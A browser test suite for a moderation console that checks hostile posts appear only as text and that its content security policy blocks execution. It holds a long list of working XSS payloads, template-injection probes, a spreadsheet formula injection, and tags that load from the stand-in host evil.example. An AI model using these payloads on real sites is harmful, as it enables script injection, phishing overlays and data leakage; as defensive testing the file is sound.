"""Posts written to break the page: nothing runs, nothing is fetched, everything is shown as text.

Two controls prove that the probe can fail: the same texts on an unsafe page do run, and our policy on
that page stops them and is seen to stop them.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from label_seed import label_by_two, suspect_labels
from playwright.sync_api import Page, expect

from labelling.labels import Answers
from serve.console.security_headers import CONTENT_SECURITY_POLICY
from serve.console.visible_text import visible

pytestmark = [pytest.mark.browser, pytest.mark.timeout(900)]

MARK = "window.PWNED=(window.PWNED||0)+1"
HOSTILE = [
    f"<script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"</style></script><script>{MARK}</script>",
    f'<!--<img src="--><img src=x onerror={MARK}//">',
    f"<img src=x onerror='{MARK}'>",
    f'<img src=x onerror="{MARK}">',
    f"<IMG SRC=x OnErRoR={MARK}>",
    f"<img/src=x/onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<math><mi><style><img src=x onerror={MARK}></style></mi></math>",
    f"<details open ontoggle={MARK}>x</details>",
    f"<video><source onerror={MARK}></video>",
    f"<audio src=x onerror={MARK}>",
    f"<body onload={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<select autofocus onfocus={MARK}>",
    f"<marquee onstart={MARK}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{MARK.replace('window.', '')}</script>'></iframe>",
    f'<iframe src="javascript:parent.{MARK.replace("window.", "")}"></iframe>',
    f'<object data="javascript:{MARK}"></object>',
    f'<embed src="javascript:{MARK}">',
    f'<a href="javascript:{MARK}">press me</a>',
    f"javascript:{MARK}",
    "<a href=https://evil.example/>https://evil.example/</a>",
    "<img src=https://evil.example/beacon.png>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/prefetch>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/bg)}</style>",
    "<style>*{display:none!important}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input type=submit></form>",
    "<div style='position:fixed;inset:0;z-index:9'>Sign in again</div>",
    "<script src=https://evil.example/x.js></script>",
    "<template><script>1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=1>"></noscript>',
    "{{7*7}}",
    "{{ config }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{# comment #} ${7*7} #{7*7} <%= 7*7 %> [[7*7]] @(7*7)",
    "&lt;script&gt; &#60;script&#62; &amp;lt; \\u003cscript\\u003e %3Cscript%3E",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "`${alert(1)}`",
    "--></style></script>]]>",
    "\u202egnirts lanoitcerid-ib\u202c",
    "\u2066isolated\u2069 \u200f\u200emarks \u061c",
    "zero\u200bwidth\u200cjoined\u200dhere\u2060and\ufeffthere",
    "soft\u00adhyphen and \u180e and \u3164filler",
    "tag characters \U000e0041\U000e0042 and \U000e0100 selectors",
    "Z\u0351\u0352\u0353a\u0354\u0355l\u0356\u0357g\u0358\u0359o " + "\u0301" * 25,
    "A" * 3_000,
    "\u0627\u0644\u0646\u0635 \u05d8\u05e7\u05e1\u05d8 and English",
    "\u2028line\u2029paragraph separators",
    "control \x01\x08\x1b[31m codes \x7f\x85",
    "\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "http://evil.example HTTPS://EVIL.EXAMPLE hxxp://done.example data:text/html,<b>x</b>",
    "=cmd|' /C calc'!A0 @SUM(1+1) +1 -1",
]
IN_ONE_POST = 8


class Probe:
    """Watches a page for anything that text must not cause."""

    def __init__(self, page: Page, own_host: str) -> None:
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        page.add_init_script(
            "window.seenViolations = [];"
            "addEventListener('securitypolicyviolation', (e) => seenViolations.push(e.violatedDirective))"
        )
        page.on(
            "request",
            lambda request: urlsplit(request.url).netloc != own_host and self.foreign.append(request.url),
        )
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.type), dialog.dismiss()))
        page.route("https://evil.example/**", lambda route: route.abort())
        self.page = page

    def ran(self) -> int:
        count: int = self.page.evaluate("window.PWNED || 0")
        return count

    def violations(self) -> list[str]:
        found: list[str] = self.page.evaluate("window.seenViolations")
        return found

    def assert_clean(self) -> None:
        assert (self.ran(), self.violations(), self.foreign, self.dialogs) == (0, [], [], [])


@pytest.fixture
def own_host(hub) -> str:
    return urlsplit(hub.url).netloc


def test_hostile_posts_are_shown_as_text_and_nothing_runs(
    hub, own_host, new_page, sign_in, screenshot
) -> None:
    groups = [HOSTILE[start : start + IN_ONE_POST] for start in range(0, len(HOSTILE), IN_ONE_POST)]
    texts = ["\n".join(group) for group in groups]
    for text in texts:
        # One line of each post stands in every other field too.
        name = next(line for line in text.split("\n") if "\x01" not in line)[:200]
        hub.post(text, platform=name, author=name)
    page = new_page()
    probe = Probe(page, own_host)
    sign_in(page)
    probe.assert_clean()
    page.keyboard.press("n")
    seen = []
    for number in range(len(texts)):
        expect(page.locator(".cover")).to_be_visible()
        probe.assert_clean()
        page.wait_for_load_state()  # keys work once the script has run
        page.keyboard.press("r")
        box = page.get_by_role("group", name="Text of the post")
        expect(box).to_be_visible()
        seen.append(box.evaluate("box => box.textContent"))
        assert page.locator(".post-text a, .post-text img, .facts a").count() == 0
        for element in box.locator("*").all():
            assert element.evaluate("e => e.tagName + '.' + e.className") == "SPAN.token"
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280
        screenshot(page, f"hostile-{number}")
        # Sent back with an error, so that the server renders the same text too.
        page.keyboard.press("Control+Enter")
        expect(page.get_by_role("alert", name="There is a problem")).to_be_visible()
        assert box.evaluate("box => box.textContent") == seen[-1]
        probe.assert_clean()
        page.wait_for_load_state()  # keys work once the script has run
        for key in ("w", "0", "e"):
            page.keyboard.press(key)
        page.keyboard.type("</textarea><script>window.PWNED=1</script>")
        page.keyboard.press("Control+Enter")
        expect(page.get_by_role("status")).to_contain_text("Decision recorded")
    assert sorted(seen) == sorted(visible(text) for text in texts)
    probe.assert_clean()


def test_hostile_words_of_reporters_and_readers_stay_words_on_every_page(
    hub, own_host, new_page, sign_in
) -> None:
    """Reports, notes, reasons, grounds, drafts and names: each holds markup, and each is read by somebody."""
    words = "\n".join(line for line in HOSTILE[:40] if "\x01" not in line)[:4_500]
    shown_words = visible(words)
    report = {"why": words, "reference": HOSTILE[1], "consents": ["police", "platform"]}
    hub.post("They say antiword.", platform=HOSTILE[0], author=HOSTILE[5], report=report)
    probes = []

    def browse(name: str) -> Page:
        page = new_page()
        probes.append(Probe(page, own_host))
        sign_in(page, name)
        return page

    def look(page: Page, *, at: str, has_words: bool = True) -> None:
        main = page.get_by_role("main")
        page.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true")
        if has_words:
            assert shown_words[:200] in main.evaluate("main => main.textContent"), at
        made = main.locator("img, iframe, object, embed, base, link, meta, style, script, video, audio, math")
        assert made.count() == 0, at
        for probe in probes:
            probe.assert_clean()

    def judge(page: Page, outcome: str, severity: str) -> None:
        page.wait_for_load_state()
        page.get_by_role("button", name="Show the post").click()
        expect(page.get_by_role("group", name="Text of the post")).to_be_visible()
        page.get_by_role("radio", name=outcome).check()
        page.get_by_role("radio", name=severity).check()
        page.get_by_label("Why did you decide this?").fill(words)
        with page.expect_navigation():
            page.get_by_role("button", name="Record the decision").click()

    first, second, senior = browse("officer"), browse("second"), browse("supervisor")
    first.get_by_role("button", name="Take the next case").click()
    expect(first.get_by_role("heading", level=1)).to_contain_text("Triage")
    look(first, at="triage")
    first.get_by_label("Write a note").fill(words)
    first.get_by_role("button", name="Add the note").click()
    expect(first.locator(".note")).to_have_count(1)
    look(first, at="a note")
    first.get_by_role("link", name="Out of scope").click()
    first.get_by_label("Why?").fill(words)
    first.get_by_role("checkbox", name="The record keeps").check()
    first.get_by_role("button", name="Out of scope").click()
    expect(first.get_by_role("alert", name="There is a problem")).to_be_visible()
    assert first.get_by_label("Why?").input_value() == words
    look(first, at="a step", has_words=False)
    first.get_by_role("link", name="Back to the case").click()
    first.get_by_role("button", name="Seal the evidence").click()
    expect(first.locator("#decide")).to_be_visible()
    look(first, at="review")
    case_url = first.url.split("?")[0]
    judge(first, "Offer victim support", "S3")
    second.get_by_role("button", name="Take the next case").click()
    expect(second.locator("#decide")).to_be_visible()
    second.get_by_label("Why did you decide this?").fill(words)
    second.get_by_role("button", name="Park").click()
    expect(second.get_by_role("heading", level=1)).to_have_text("Park the case")
    second.goto(f"{case_url}/draft")
    look(second, at="a draft")
    second.get_by_role("link", name="Use it").click()
    expect(second.get_by_label("Why did you decide this?")).to_have_value(words)
    judge(second, "Offer victim support", "S0")
    senior.get_by_role("button", name="Take the next case").click()
    expect(senior.get_by_role("heading", name="What the two readers said")).to_be_visible()
    look(senior, at="adjudication")
    judge(senior, "Offer victim support", "S3")
    senior.goto(f"{case_url}/do/appeal")
    senior.get_by_role("radio", name="The author").check()
    senior.get_by_label("On what grounds?").fill(words)
    senior.get_by_role("button", name="Record an appeal").click()
    expect(senior.get_by_role("status")).to_contain_text("was reopened")
    look(senior, at="how it stands")
    for address in ("/", "/board"):
        senior.goto(address)
        look(senior, at=address, has_words=False)
    first.goto("/reports/new")
    first.get_by_label("What does the post say?").fill(words)
    first.get_by_label("Where is it?").fill(HOSTILE[6])
    first.get_by_role("button", name="Store the report").click()
    expect(first.get_by_role("alert", name="There is a problem")).to_be_visible()
    assert first.get_by_label("What does the post say?").input_value() == words
    look(first, at="a report", has_words=False)


def test_hostile_words_of_annotators_and_of_files_stay_words(
    hub, own_host, new_page, sign_in, tmp_path
) -> None:
    """Texts, notes, cohorts, explanations, and a file of suspects: each holds markup, and each is read."""
    words = "\n".join(line for line in HOSTILE[:40] if "\x01" not in line)
    shown_words = visible(words)
    texts = [words, f"{words} again"]
    meant = Answers(
        ["antisemitic"], 2, "endorses", note=words[:900], rationale=[(0, 60)], disagreement=HOSTILE[3]
    )
    quoted = Answers(["antisemitic"], 2, "counters", note=HOSTILE[1])
    label_by_two(hub.home, "pilot", [(text, meant, quoted) for text in texts], cohort=HOSTILE[5])
    suspect_labels(hub.home, tmp_path, texts, words=words)
    page = new_page()
    probe = Probe(page, own_host)
    sign_in(page, "supervisor")

    def look(*expected: str) -> None:
        main = page.get_by_role("main")
        page.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true")
        text = main.evaluate("main => main.textContent")
        assert [one for one in expected if one not in text] == []
        made = main.locator("img, iframe, object, embed, base, link, meta, style, script, video, audio, math")
        assert made.count() == 0
        probe.assert_clean()

    page.goto("/labelling/agreement")
    look(visible(HOSTILE[5]))
    page.goto("/labelling/adjudication")
    look()
    page.get_by_role("link", name="Judge the first").click()
    look(shown_words[:300], visible(HOSTILE[1]), visible(HOSTILE[3]), visible(HOSTILE[5]))
    page.get_by_label("Why?").fill(words[:1_500])
    page.get_by_role("button", name="Record and go on").click()
    expect(page.get_by_role("alert", name="There is a problem")).to_be_visible()
    assert page.get_by_label("Why?").input_value() == words[:1_500]
    look(shown_words[:300])
    page.get_by_role("radio", name="Ambiguous text").check()
    page.get_by_role("button", name="Record and go on").click()
    expect(page.get_by_role("status")).to_contain_text("Recorded")
    page.goto("/labelling/adjudication")
    look(shown_words[:300])
    page.goto("/labelling/suspects")
    look()
    page.get_by_role("link", name="Judge the first").click()
    look(shown_words[:300], visible(HOSTILE[1]))


def test_control_the_same_posts_on_an_unsafe_page_do_run(own_host, hub, new_page) -> None:
    page = new_page()
    probe = Probe(page, own_host)
    unsafe = "<!doctype html><body>" + "\n".join(HOSTILE[:30])
    page.route("**/unsafe", lambda route: route.fulfill(body=unsafe, content_type="text/html"))
    page.goto("/unsafe")
    page.wait_for_function("window.PWNED > 3")
    assert any("evil.example" in url for url in probe.foreign)


def test_control_our_policy_stops_an_unsafe_page_and_the_probe_sees_it(own_host, hub, new_page) -> None:
    page = new_page()
    probe = Probe(page, own_host)
    unsafe = "<!doctype html><body>" + "\n".join(HOSTILE[:30])
    headers = {"Content-Security-Policy": CONTENT_SECURITY_POLICY}
    page.route(
        "**/unsafe", lambda route: route.fulfill(body=unsafe, content_type="text/html", headers=headers)
    )
    page.goto("/unsafe")
    page.wait_for_function("seenViolations.length > 3")
    assert probe.ran() == 0
